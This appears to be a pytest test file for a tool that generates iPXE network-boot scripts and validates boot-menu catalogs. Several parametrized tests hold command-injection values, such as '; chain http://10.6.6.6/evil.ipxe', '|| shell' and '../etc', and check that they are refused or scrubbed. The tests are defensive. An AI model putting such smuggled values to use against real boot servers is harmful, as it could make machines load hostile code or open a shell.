"""iPXE script generation and catalog parsing: pure functions, text out."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from bootenv.catalog import LOCAL, Catalog, CatalogError, Entry, load_catalog, parse_catalog
from bootenv.menu import BootSpec, entry_script, local_script, menu_script, message_script, provision_script
from tests.serveimage import make_image

BASE = "http://10.0.2.2:8080"
MAC = "52:54:00:12:34:56"

CATALOG = Catalog(
    entries=(
        Entry("lamp-mysql", "LAMP: OS + MySQL", "lamp", "mysql"),
        Entry("lamp-web", "LAMP: OS + Apache + PHP", "lamp", "apache,php"),
        Entry("lamp-all", "LAMP: all", "lamp", "all"),
    ),
    default="lamp-web",
    timeout=7.5,
    title="ACME rack 4",
)


def labels(script: str) -> set[str]:
    return {line[1:] for line in script.splitlines() if line.startswith(":")}


def gotos(script: str) -> set[str]:
    return set(re.findall(r"goto ([a-z0-9_]+)", script))


def test_every_script_is_ipxe_and_every_goto_has_its_label() -> None:
    spec = BootSpec(BASE, MAC, f"{BASE}/images/lamp", "mysql")
    scripts = [
        entry_script(BASE),
        menu_script(CATALOG, BASE),
        provision_script(spec),
        local_script(MAC, "done"),
        message_script(MAC, "failed"),
    ]
    for script in scripts:
        assert script.startswith("#!ipxe\n")
        assert gotos(script) <= labels(script), script


def test_entry_script_chains_by_mac() -> None:
    script = entry_script(BASE)
    assert f"chain --autofree {BASE}/ipxe/machine?mac=${{netX/mac}}" in script


def test_menu_has_one_item_per_entry_plus_local_disk_with_default_and_timeout() -> None:
    script = menu_script(CATALOG, BASE)
    items = re.findall(r"^item (?!--gap)(\S+) (.+)$", script, re.M)
    assert items == [
        ("e0", "LAMP: OS + MySQL"),
        ("e1", "LAMP: OS + Apache + PHP"),
        ("e2", "LAMP: all"),
        ("local", "Boot from local disk"),
        ("shell", "iPXE shell"),
    ]
    assert "choose --default e1 --timeout 7500 target && goto ${target} || goto local" in script
    assert f"chain {BASE}/ipxe/select/lamp-web?mac=${{netX/mac}} || goto failed" in script
    assert "\nmenu -- ACME rack 4 (${netX/mac})\n" in script


@pytest.mark.parametrize("title", ["--- ACME rack 4 ---", "-d", "--help", "-n rack", "  -x rack"])
def test_a_menu_title_starting_with_a_dash_is_not_read_as_an_option(title: str) -> None:
    script = menu_script(Catalog(CATALOG.entries, title=title), BASE, mac=MAC)
    words = next(line for line in script.splitlines() if line.startswith("menu ")).split()
    # iPXE reads words starting with '-' as options up to the first other word or '--',
    # and then joins the rest with single spaces: the title.
    assert words[1] == "--"
    assert " ".join(words[2:]) == f"{' '.join(title.split())} ({MAC})"


def test_menu_for_a_known_mac_names_it_and_defaults_to_local_disk() -> None:
    catalog = Catalog(CATALOG.entries, default=LOCAL, timeout=0)
    script = menu_script(catalog, BASE, mac=MAC)
    assert f"?mac={MAC} " in script
    assert "choose --default local --timeout 0 target" in script


def test_provision_script_boots_the_ramdisk_with_the_agent_arguments_without_a_key_press() -> None:
    spec = BootSpec(BASE, MAC, f"{BASE}/images/lamp", "apache,php", hostname="web1", kernel_args="quiet")
    script = provision_script(spec)
    kernel = next(line for line in script.splitlines() if line.startswith("kernel "))
    assert kernel.split()[1] == f"{BASE}/boot/vmlinuz"
    args = kernel.split(" || ")[0].split()[2:]
    assert "initrd=initramfs.img" in args
    assert "console=ttyS0,115200n8" in args
    assert f"bootenv.image={BASE}/images/lamp" in args
    assert "bootenv.components=apache,php" in args
    assert f"bootenv.callback={BASE}/callback/{MAC}" in args
    assert "bootenv.hostname=web1" in args
    assert args[-1] == "quiet"
    assert f"initrd --name initramfs.img {BASE}/boot/initramfs.img" in script
    assert "\nboot || goto failed\n" in script
    for waits in ("choose", "prompt --timeout 0", "menu"):
        assert not re.search(rf"^{waits}\b", script.split(":failed")[0], re.M)


def test_a_provision_script_names_the_ramdisk_build_and_its_retry_fetches_the_script_again() -> None:
    """The URLs name the build (bootenv/bootfiles.py), so a failed load is not retried as
    it is: the build may be gone (a 404, two build-ramdisk -o since the script was made).
    The retry fetches the machine's script again (`chain --replace` ends this one), which
    names the current build, and counts on from this script's tries (set only where none
    is), so three failed loads still give up; the same URLs again only if the script
    cannot be fetched."""
    script = provision_script(BootSpec(BASE, MAC, f"{BASE}/images/lamp", "all", build="0123456789abcdef"))
    assert f"\nkernel {BASE}/boot/0123456789abcdef/vmlinuz initrd=initramfs.img " in script
    assert (
        f"\ninitrd --name initramfs.img {BASE}/boot/0123456789abcdef/initramfs.img || goto failed\n" in script
    )
    head, rest = script.split("\n:retry\n")
    failed, give_up = rest.split("\n:failed\n")[1].split("\n:give_up\n")
    assert head.endswith("\nimgfree\nisset ${bootenv-loads} || set bootenv-loads:int32 0")
    assert failed.startswith("imgfree\ninc bootenv-loads\niseq ${bootenv-loads} 3 && goto give_up ||\n")
    assert failed.endswith(f"\nchain --replace --autofree {BASE}/ipxe/machine?mac={MAC} ||\ngoto retry")
    assert give_up.startswith("clear bootenv-loads\n")  # a chain typed in its shell counts anew


def test_the_callback_url_names_the_assignment_and_the_agent_takes_it() -> None:
    """Its run's events name the assignment, so serve tells them from a replaced run's
    (docs/SERVE.md, "Callback events"); the layout service is handed the same URL."""
    from bootenv.cmdline import parse_cmdline

    spec = BootSpec(BASE, MAC, f"{BASE}/images/lamp", "all", assignment="0123456789abcdef")
    assert spec.callback_url == f"{BASE}/callback/{MAC}/0123456789abcdef"
    assert f" bootenv.callback={spec.callback_url}" in provision_script(spec)
    assert parse_cmdline(spec.kernel_cmdline()).callback == spec.callback_url


def test_local_script_boots_the_disk_under_bios_and_exits_to_firmware_under_uefi() -> None:
    script = local_script(MAC, "provisioned")
    assert "sanboot --no-describe --drive 0x80 || exit 1" in script
    assert "iseq ${platform} efi && exit 1 ||" in script


@pytest.mark.parametrize(
    "bad", ["${evil}", "two\nlines", "quiet ; chain http://10.6.6.6/x", "a || shell", "a && b", "#x"]
)
def test_values_that_change_an_ipxe_script_are_refused(bad: str) -> None:
    with pytest.raises(ValueError):
        provision_script(BootSpec(BASE, MAC, f"{BASE}/images/lamp", "all", kernel_args=bad))


@pytest.mark.parametrize(
    "text",
    [
        "disk gone ; chain http://10.6.6.6/evil.ipxe ; exit",
        "x || shell",
        "x && reboot",
        "#comment",
        "${net0/mac}",
        "two\nlines\rand; more",
        "back\\slash",
    ],
)
def test_free_text_is_scrubbed_into_one_harmless_echo_line(text: str) -> None:
    """An agent's error message (anyone may post one) is echoed, never run: no word of it
    may end the echo command (iPXE splits at `;`, `||`, `&&` and starts a comment at `#`)."""
    for make in (local_script, message_script):
        script = make(MAC, text)
        assert len(script.splitlines()) == len(make(MAC, "plain").splitlines())
        (echo,) = [line for line in script.splitlines() if line.startswith("echo ")]
        words = echo.split()
        assert not {";", "||", "&&"} & set(words)
        assert not any(w.startswith("#") for w in words)
        assert "$" not in echo and "\\" not in echo


CATALOG_JSON = {
    "title": "ACME",
    "timeout": 5,
    "default": "mysql",
    "entries": [
        {"id": "mysql", "title": "LAMP: OS + MySQL", "image": "lamp", "components": ["mysql"]},
        {"title": "LAMP: all", "image": "lamp", "components": "all"},
    ],
}


def test_catalog_json_and_toml_parse_alike() -> None:
    toml = """
title = "ACME"
timeout = 5
default = "mysql"
[[entries]]
id = "mysql"
title = "LAMP: OS + MySQL"
image = "lamp"
components = ["mysql"]
[[entries]]
title = "LAMP: all"
image = "lamp"
components = "all"
"""
    a = parse_catalog(json.dumps(CATALOG_JSON))
    b = parse_catalog(toml, toml=True)
    assert a == b
    assert [e.id for e in a.entries] == ["mysql", "lamp-all"]
    assert a.entry("mysql").components == "mysql"


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        ({"colour": "blue"}, "unknown key 'colour'"),
        ({"default": "nope"}, "default 'nope'"),
        ({"timeout": -1}, "timeout"),
        ({"timeout": 10**400}, "timeout must be a number"),  # too big for a float
        ({"timeout": float("nan")}, "timeout must be a number"),
        ({"entries": [{"title": "x", "image": "http://cdn/img\\x", "components": "all"}]}, "backslash"),
        ({"timeout": True}, "wrong type"),
        ({"title": "${x}"}, "title"),
        (
            {"entries": [{"title": "x", "image": "lamp", "components": "all", "extra": 1}]},
            "unknown key 'extra'",
        ),
        ({"entries": [{"title": "x", "image": "../etc", "components": "all"}]}, "image name"),
        ({"entries": [{"title": "x", "image": "lamp", "components": "my sql"}]}, "component name"),
        ({"entries": [{"title": "x", "image": "lamp", "components": []}]}, "non-empty"),
        ({"entries": [{"title": "x", "image": "lamp"}]}, "missing key 'components'"),
        (
            {
                "entries": [
                    {"title": "x", "image": "lamp", "components": "all", "kernel_args": "bootenv.dsik=x"}
                ]
            },
            "unknown kernel parameter bootenv.dsik",
        ),
        (
            {"entries": [{"id": "a", "title": "x", "image": "l", "components": "all"}] * 2, "default": "a"},
            "twice",
        ),
        ({"entries": [{"title": "Web || DB ; shell", "image": "lamp", "components": "all"}]}, "'||'"),
        ({"entries": [{"title": "Web #1", "image": "lamp", "components": "all"}]}, "'#1'"),
        ({"title": "ACME && more"}, "'&&'"),
        (
            {
                "entries": [
                    {"title": "x", "image": "lamp", "components": "all", "kernel_args": "quiet ; chain x"}
                ]
            },
            "kernel_args holds the word ';'",
        ),
        ({"entries": [{"id": "a\n", "title": "x", "image": "lamp", "components": "all"}]}, "id"),
    ],
)
def test_bad_catalogs_are_refused(edit: dict[str, object], message: str) -> None:
    with pytest.raises(CatalogError, match=re.escape(message)):
        parse_catalog(json.dumps({**CATALOG_JSON, **edit}))


def test_a_catalog_nested_too_deep_is_refused_in_one_line() -> None:
    with pytest.raises(CatalogError, match="not valid JSON") as info:
        parse_catalog("[" * 100_000 + "]" * 100_000)
    assert "\n" not in str(info.value)


def test_a_catalog_without_a_default_boots_unknown_machines_from_disk() -> None:
    doc = {k: v for k, v in CATALOG_JSON.items() if k != "default"}
    catalog = parse_catalog(json.dumps(doc))
    assert catalog.entries and catalog.default == LOCAL


def test_catalog_is_checked_against_the_images(tmp_path: Path) -> None:
    make_image(tmp_path)
    (tmp_path / "catalog.json").write_text(json.dumps(CATALOG_JSON))
    assert load_catalog(tmp_path).default == "mysql"
    bad = {
        **CATALOG_JSON,
        "default": "local",
        "entries": [{"title": "x", "image": "lamp", "components": ["redis"]}],
    }
    (tmp_path / "catalog.json").write_text(json.dumps(bad))
    with pytest.raises(CatalogError, match="unknown component 'redis'"):
        load_catalog(tmp_path)
    missing = {
        **CATALOG_JSON,
        "default": "local",
        "entries": [{"title": "x", "image": "gone", "components": "all"}],
    }
    (tmp_path / "catalog.json").write_text(json.dumps(missing))
    with pytest.raises(CatalogError, match="'gone' not found"):
        load_catalog(tmp_path)


def test_without_a_catalog_each_image_offers_os_each_component_and_all(tmp_path: Path) -> None:
    make_image(tmp_path)
    catalog = load_catalog(tmp_path)
    assert [e.title for e in catalog.entries] == [
        "lamp: OS only",
        "lamp: OS + apache",
        "lamp: OS + mysql",
        "lamp: OS + php",
        "lamp: all",
    ]
    assert catalog.default == LOCAL  # an unknown machine is never wiped without a choice


def test_a_broken_image_is_left_out_of_the_generated_menu_and_said_so(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    make_image(tmp_path)
    (tmp_path / "broken").mkdir()
    (tmp_path / "broken/manifest.json").write_text("{")
    with caplog.at_level("WARNING"):
        catalog = load_catalog(tmp_path)
    assert {e.image for e in catalog.entries} == {"lamp"}
    assert "image broken is left out of the menu" in caplog.text


def test_the_kernel_line_names_the_booting_nic_and_the_agent_ignores_it() -> None:
    """BOOTIF=01-<mac with dashes> (pxelinux's and dracut's form) tells the ramdisk's
    init which NIC to bring up first; the agent reads only bootenv.* and takes the rest."""
    from bootenv.cmdline import parse_cmdline, split_cmdline

    spec = BootSpec(BASE, "52:54:00:ab:cd:0e", f"{BASE}/images/lamp", "all")
    words = dict(split_cmdline(spec.kernel_cmdline()))
    assert words["BOOTIF"] == "01-52-54-00-ab-cd-0e"
    assert " BOOTIF=01-52-54-00-ab-cd-0e " in provision_script(spec)
    assert parse_cmdline(spec.kernel_cmdline()).image == f"{BASE}/images/lamp"


def test_a_kernel_line_the_kernel_would_cut_is_never_sent() -> None:
    """The last line of defence, behind the check at assignment: a line over the 2047
    bytes x86 keeps (the rest dropped without a word) gets the machine a message and its
    local disk, not a ramdisk missing its last settings."""
    from bootenv.menu import MAX_CMDLINE

    fits = BootSpec(BASE, MAC, f"{BASE}/images/lamp", "all", assignment="0" * 16)
    pad = "x=" + "y" * (MAX_CMDLINE - len(fits.kernel_cmdline()) - 3)
    fits = BootSpec(BASE, MAC, f"{BASE}/images/lamp", "all", kernel_args=pad, assignment="0" * 16)
    assert len(fits.kernel_cmdline()) == MAX_CMDLINE
    assert f" {pad} || goto failed\n" in provision_script(fits)
    over = BootSpec(BASE, MAC, f"{BASE}/images/lamp", "all", kernel_args=pad + "y", assignment="0" * 16)
    script = provision_script(over)
    assert "\nkernel " not in script and "\ninitrd " not in script
    assert "bootenv: the ramdisk's kernel command line would be 2048 bytes, over the 2047" in script
    assert "exit 1" in script  # then the local disk
